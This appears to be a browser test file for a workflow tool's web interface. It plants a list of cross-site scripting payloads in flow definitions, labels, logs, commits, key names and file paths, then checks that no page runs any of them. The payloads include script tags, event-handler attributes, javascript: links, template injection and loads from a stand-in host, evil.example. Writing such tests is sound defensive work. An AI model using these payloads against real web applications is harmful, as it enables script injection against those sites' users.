"""Pages in a real browser over what an attacker can write - texts of flows, labels, inputs, log lines, outputs, commits,
keys, paths - none of which may run, or ask for anything."""

import json
from collections.abc import Iterator
from typing import Final

import pytest
from playwright.sync_api import Browser, Page

from tests.browser import checks
from tests.support.daemon import Daemon, running
from tests.support.repositories import Repository

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

# Each would call `hit`, or ask `evil.example` for something.
PAYLOADS: Final = (
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    '"><img src=x onerror=hit()>',
    "<img src=//evil.example/x.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<marquee onstart=hit()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<a href=javascript:hit()>x</a>",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "![x](//evil.example/x.png)",
    "[x](//evil.example 'a\" onmouseover=hit() b')",
    "<javascript:hit()>",
    '" onmouseover=hit() x="',
    "' autofocus onfocus=hit() x='",
    "x' style='background:url(//evil.example)",
    "{{ constructor.constructor('hit()')() }}",
    "${hit()} #{hit()} <%= hit() %>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<script>hit()</script>]]>",
    r"\u003cscript\u003ehit()\u003c/script\u003e",
    "\x1b]8;;javascript:hit()\x07x\x1b]8;;\x07",
)
ALL: Final = "\n\n".join(PAYLOADS)
NAMESPACE: Final = "company.team"


def raw(text: str) -> str:
    """As YAML and as the expression language take it literally."""
    return json.dumps("{% raw %}" + text + "{% endraw %}")


FLOW: Final = f"""id: attacked
namespace: {NAMESPACE}
description: {json.dumps(ALL)}
labels:
{"".join(f"  label{number}: {json.dumps(text)}{chr(10)}" for number, text in enumerate(PAYLOADS))}
inputs:
  - {{id: asked, type: STRING, displayName: {json.dumps(PAYLOADS[6])}, description: {json.dumps(ALL)}, defaults: {raw(ALL)}}}
  - {{id: chosen, type: SELECT, values: {json.dumps([text for text in PAYLOADS if "{{" not in text])}, required: false}}
tasks:
  - id: log
    type: io.kestra.plugin.core.log.Log
    message: [{", ".join(map(raw, PAYLOADS))}]
  - id: out
    type: io.kestra.plugin.core.output.OutputValues
    values: {{{", ".join(f"{json.dumps(text)}: {raw(text)}" for text in PAYLOADS if "{{" not in text)}}}
  - {{id: fail, type: io.kestra.plugin.core.execution.Fail, errorMessage: {raw(ALL)}}}
triggers:
  - {{id: never, type: io.kestra.plugin.core.trigger.Schedule, cron: "0 0 1 1 *", description: {json.dumps(ALL)}}}
outputs:
  - {{id: told, type: STRING, value: {raw(ALL)}, displayName: {json.dumps(PAYLOADS[5])}}}
"""


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    folder = tmp_path_factory.mktemp("attacked")
    repository = Repository(folder / "repository")
    author = "&lt;img src=x onerror=hit()&gt; \"';alert(1) <script@evil.example>"
    repository.commit({f"flows/{NAMESPACE}/attacked.yaml": "id: attacked\ntasks: []\n"}, ALL)
    repository.commit(
        {
            f"flows/{NAMESPACE}/attacked.yaml": FLOW,
            f"flows/{NAMESPACE}/<img src=x onerror=hit()>.yaml": f"id: odd\ntasks:\n  - {json.dumps(ALL)}: 1\n",
            f"flows/{NAMESPACE}/wrong.yaml": f"id: {json.dumps(PAYLOADS[0])}\nnamespace: {NAMESPACE}\ntasks: [{json.dumps(ALL)}]\n",
        },
        f"{PAYLOADS[5]} {ALL}",
        author=author,
    )
    with running(folder, source=repository) as daemon:
        yield daemon


@pytest.fixture
def page(browser: Browser, daemon: Daemon) -> Iterator[Page]:
    context = browser.new_context(base_url=daemon.url)
    context.add_init_script("window.hit = () => { window.wasHit = true; }")
    yield context.new_page()
    context.close()


def test_nothing_that_is_shown_runs(page: Page, daemon: Daemon) -> None:
    assert "attacked" in daemon.flow_ids(), daemon.problems()
    execution = daemon.run("attacked", labels=[f"by-hand:{PAYLOADS[5]}"])
    assert execution.state == "FAILED"
    for number, text in enumerate(PAYLOADS):
        daemon.http.put(
            f"/api/v1/main/namespaces/{NAMESPACE}/kv/k{number}", content=json.dumps(text), params={"description": text}
        ).raise_for_status()
    heard = checks.listen(page, daemon.url)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    flow = f"/flows/{NAMESPACE}/attacked"
    reflected = [
        f"/{place}={text}" for place in ("flows?q", "flows?label", "executions?labels") for text in PAYLOADS[4:7]
    ]
    for path in (
        *("/", "/flows", "/executions", "/triggers", "/git", f"/namespaces/{NAMESPACE}/keys?key=k5"),
        *(f"{flow}{tab}" for tab in ("", "/source", "/revisions", "/triggers", "/start")),
        f"/executions/{execution.id}",
        *reflected,
    ):
        page.goto(path)
        checks.check_ran_clean(heard, page)
        assert not page.evaluate("Boolean(window.wasHit)"), path
        assert page.evaluate(STRANGE) == [], path
    assert dialogs == []


# Handlers in attributes, elements that pages of ours have not, and addresses of another kind or place.
STRANGE: Final = """() => [...document.querySelectorAll("*")].filter((each) =>
    [...each.attributes].some(({ name, value }) => /^on/i.test(name)
      || (/^(href|src|action|formaction|data)$/.test(name) && !/^(https?:|mailto:|#|\\?|\\/(?!\\/)|[\\w.-]+(?![\\w.-]*:))/.test(value)))
    || /^(iframe|object|embed|base|marquee|animate|template)$/i.test(each.tagName)
    || (each.tagName === "META" && each.httpEquiv)
    || (each.tagName === "SCRIPT" && !each.src)).map((each) => each.outerHTML.slice(0, 200))"""


def test_what_a_task_wrote_is_downloaded_and_never_shown(page: Page, daemon: Daemon) -> None:
    daemon.repository.commit(
        {
            f"flows/{NAMESPACE}/file.yaml": f"""id: file
namespace: {NAMESPACE}
tasks:
  - {{id: write, type: io.kestra.plugin.core.storage.Write, content: "<script>hit()</script>", extension: .html}}
"""
        }
    )
    daemon.sync()
    execution = daemon.run("file")
    uri = execution.run_of("write").outputs["uri"]
    page.goto("/")
    with page.expect_download() as download:
        page.evaluate(
            "address => { location.href = address }", f"/api/v1/main/executions/{execution.id}/file?path={uri}"
        )
    assert download.value.suggested_filename.endswith(".html")
    assert not page.evaluate("Boolean(window.wasHit)")
